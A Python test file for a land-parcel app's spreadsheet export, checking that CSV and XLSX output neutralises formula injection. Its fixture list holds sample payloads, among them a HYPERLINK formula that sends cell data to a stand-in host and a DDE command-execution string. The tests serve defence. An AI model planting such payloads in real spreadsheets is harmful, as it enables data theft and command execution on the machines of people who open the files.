"""Safe spreadsheets (OWASP CSV injection): text that starts with = + - @ tab or CR opens
as text in Excel and LibreOffice; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess

import pandas as pd
import pytest

from landapp.spreadsheet import csv_safe, is_risky
from landapp.store.filters import F

ATTACKS = ["=1+1", '=HYPERLINK("http://evil.example/?x="&A1,"点此")', "+1+1", "-1+1", "@SUM(1,2)",
           "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


def test_csv_safe_quotes_formulas_and_keeps_numbers():
    for text in ATTACKS:
        assert is_risky(text) and csv_safe(text) == "'" + text
    for v in ["-12.5", "-1,234.50", "-12%", "1e-3", "-", "汽车城", "", "J1-J2", "成龙大道以北、驿都大道以东"]:
        assert csv_safe(v) == v
    for v in [-12.5, -3, 0, 1.5, None]:
        assert csv_safe(v) == v  # numbers are numbers, a negative one too


def _poisoned_list(demo_project):
    from landapp.opportunities import opportunity_list

    rows = demo_project.rows("parcels", (F("status") == "待供") & (F("retired") == 0))
    demo_project.update("parcels", rows[0]["fid"], {"name": ATTACKS[0], "location": ATTACKS[1],
                                                     "contact": ATTACKS[4], "phone": "+8613800000000"})
    df = opportunity_list(demo_project, "land")
    assert ATTACKS[0] in set(df["name"])
    return df


def test_xlsx_text_is_never_a_formula(demo_project, tmp_path):
    import openpyxl

    from landapp.publish import write_xlsx

    df = _poisoned_list(demo_project)
    write_xlsx(df, str(tmp_path / "l.xlsx"), "land", park="=1+1 园区")
    ws = openpyxl.load_workbook(tmp_path / "l.xlsx").active
    cells = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for text in (ATTACKS[0], "+8613800000000", ATTACKS[4]):
        assert cells[text].data_type == "s" and cells[text].quotePrefix, text
    assert any(v.startswith(ATTACKS[1]) and c.data_type == "s" for v, c in cells.items())
    assert ws["A1"].data_type == "s"
    assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]
    # numbers stay numbers
    assert all(isinstance(c.value, (int, float)) for c in ws["F"][2:] if c.value is not None)


def test_csv_neutralises_formulas(demo_project, tmp_path):
    from landapp.publish import write_csv

    df = _poisoned_list(demo_project)
    write_csv(df, str(tmp_path / "l.csv"), "land")
    rows = list(csv.DictReader(io.StringIO((tmp_path / "l.csv").read_text(encoding="utf-8-sig"))))
    row = next(r for r in rows if "=1+1" in r["地块名称"])
    assert row["地块名称"] == "'=1+1" and row["联系人"] == "'@SUM(1,2)" and row["联系电话"] == "'+8613800000000"
    assert row["位置/四至"].startswith("'=HYPERLINK")
    assert float(row["面积(㎡)"]) > 0 and not any(v.startswith("'") for k, v in row.items() if k == "面积(㎡)")


def test_cli_csv_output_is_neutralised(demo_project, capsys):
    from landapp.commands.space_rules import emit

    emit([{"name": "=1+1", "n": -5, "s": "-5", "t": "-a"}],
         [("name", "名称", "Name"), ("n", "数", "N"), ("s", "数", "S"), ("t", "文", "T")], "csv")
    out = capsys.readouterr().out.lstrip("\ufeff").splitlines()
    assert out[1] == "'=1+1,-5,-5,'-a"


def _soffice():
    exe = shutil.which("soffice") or shutil.which("libreoffice")
    if not exe:
        pytest.skip("LibreOffice is not installed")
    return exe


def _libreoffice_csv(exe, src, tmp_path) -> str:
    """What LibreOffice Calc shows: open the file (formulas evaluated as it would on opening)
    and save the values as CSV."""
    out = tmp_path / "lo"
    out.mkdir(exist_ok=True)
    profile = tmp_path / "lo-profile"  # its own profile: parallel runs do not share a lock
    subprocess.run([exe, f"-env:UserInstallation=file://{profile}", "--headless", "--convert-to",
                    "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", str(out), str(src)],
                   capture_output=True, check=True, timeout=180)
    return (out / (os.path.splitext(os.path.basename(src))[0] + ".csv")).read_text(encoding="utf-8", errors="replace")


def test_libreoffice_shows_the_text_not_a_formula(demo_project, tmp_path):
    exe = _soffice()
    from landapp.publish import write_csv, write_xlsx

    df = _poisoned_list(demo_project)
    write_xlsx(df, str(tmp_path / "l.xlsx"), "land")
    write_csv(df, str(tmp_path / "c.csv"), "land")
    for src in ("l.xlsx", "c.csv"):
        shown = list(csv.reader(io.StringIO(_libreoffice_csv(exe, tmp_path / src, tmp_path))))
        row = next(r for r in shown if any("1+1" in v for v in r))
        assert any(v.lstrip("'") == "=1+1" for v in row), (src, row)  # not 2
        assert any(v.lstrip("'").startswith("=HYPERLINK") for v in row), (src, row)  # not a live link
        assert "2" not in row[2:4] and "Err:" not in ",".join(row)
        assert any(v.lstrip("'") == "+8613800000000" for v in row)  # the phone stays text
        assert float(row[5].replace(",", "")) > 0  # the area is still a number


def test_panel_csv_keeps_numbers_and_quotes_formulas(tmp_path):
    pytest.importorskip("PySide6.QtWidgets")
    from landapp.spreadsheet import csv_row

    assert csv_row(["=1+1", "-1,234.5", "汽车城", "@x"]) == ["'=1+1", "-1,234.5", "汽车城", "'@x"]


def test_negative_numbers_in_frames_stay_numbers(tmp_path):
    from landapp.publish import write_csv

    df = pd.DataFrame([{k: None for k, *_ in __import__("landapp.opportunities", fromlist=["x"]).LAND_COLUMNS}])
    df.loc[0, "start_price"] = -12.5
    df.loc[0, "name"] = "-12.5 万元"
    write_csv(df, str(tmp_path / "n.csv"), "land")
    row = list(csv.DictReader(io.StringIO((tmp_path / "n.csv").read_text(encoding="utf-8-sig"))))[0]
    assert row["起始价(万元)"] == "-12.5" and row["地块名称"] == "'-12.5 万元"
